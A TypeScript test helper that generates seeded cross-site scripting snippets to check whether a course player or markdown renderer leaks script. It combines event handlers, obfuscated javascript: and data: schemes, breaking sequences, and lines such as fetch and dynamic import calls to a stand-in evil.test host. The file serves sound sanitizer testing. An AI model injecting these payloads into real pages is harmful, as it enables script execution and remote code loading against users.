/** Text as an attacker would put it into a course: markup, addresses and escapes that run script or fetch in careless players. */

const RUN = ['window.hacked=1', 'top.hacked=1', "fetch('//evil.test/x')", 'alert(1)', 'import("//evil.test/m.js")']
const TAGS = [
  ...['script', 'img', 'svg', 'iframe', 'object', 'embed', 'link', 'style', 'base', 'meta', 'form', 'input', 'button'],
  ...['video', 'audio', 'source', 'math', 'template', 'details', 'marquee', 'body', 'frameset', 'portal', 'animate'],
]
const EVENTS = ['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle', 'onanimationstart', 'onbegin', 'onpointerenter']
const SCHEMES = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', '&#106;avascript:', 'data:text/html,', 'vbscript:', '\u0001javascript:', 'blob:', 'file:///', 'filesystem:'] // prettier-ignore
const OUTSIDE = [
  '//evil.test/x.png',
  'https://evil.test/x',
  'http://evil.test/x.js',
  '\\\\evil.test\\x',
  'https:evil.test',
]
const BREAKS = ['', '"', "'", '>', '-->', ']]>', '</title>', '</textarea>', '</script>', '</style>', '\u2028', '\u0000', '\\', '`', '${', '{@html ', '{{', '<!--', '<![CDATA['] // prettier-ignore

/** A small generator of chance that gives the same row for the same seed (mulberry32). */
function chance(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
}

/** `count` snippets of a seed, each unlike a harmless text in another way. */
export function snippets(count: number, seed = 1): string[] {
  const next = chance(seed)
  const one = <T>(list: readonly T[]): T => list[Math.floor(next() * list.length)] as T
  const address = () => (next() < 0.6 ? one(SCHEMES) + one(RUN) : one(OUTSIDE))
  const attribute = () => one([
    () => `${one(EVENTS)}=${one(['', '"', "'"])}${one(RUN)}`,
    () => `${one(['src', 'href', 'xlink:href', 'action', 'formaction', 'data', 'poster', 'srcdoc', 'srcset', 'background'])}="${address()}"`,
    () => `style="background:url(${address()})"`,
    () => `http-equiv=refresh content="0;url=${address()}"`,
  ])() // prettier-ignore
  const tag = () => {
    const name = one(TAGS)
    const attributes = Array.from({ length: 1 + Math.floor(next() * 3) }, attribute).join(one([' ', '/', '\n', '\t']))
    return `<${one(['', '', '/', '\u0000'])}${next() < 0.2 ? name.toUpperCase() : name} ${attributes}${one(['>', '/>', '', `>${one(RUN)}</${name}>`])}`
  }
  const markdown = () => one([
    () => `[${tag()}](${address()})`,
    () => `![${tag()}](${address()})`,
    () => `<${address()}>`,
    () => `[x]: ${address()}\n\n[x]`,
    () => `\`\`\`${tag()}\n${tag()}\n\`\`\``,
    () => `| ${tag()} |\n| --- |\n| ${address()} |`,
    () => `**${tag()}** _${address()}_ ~~${tag()}~~`,
    () => `[x](page:${one(BREAKS)}${address()}) [y](term:${tag()})`,
  ])() // prettier-ignore
  const escaped = (text: string) => text.replaceAll('<', one(['<', '&lt;', '&#60;', '\\u003c', '%3C', '\uFF1C']))
  return Array.from({ length: count }, () => one(BREAKS) + one([tag, markdown, address, () => escaped(tag())])() + one(BREAKS)) // prettier-ignore
}
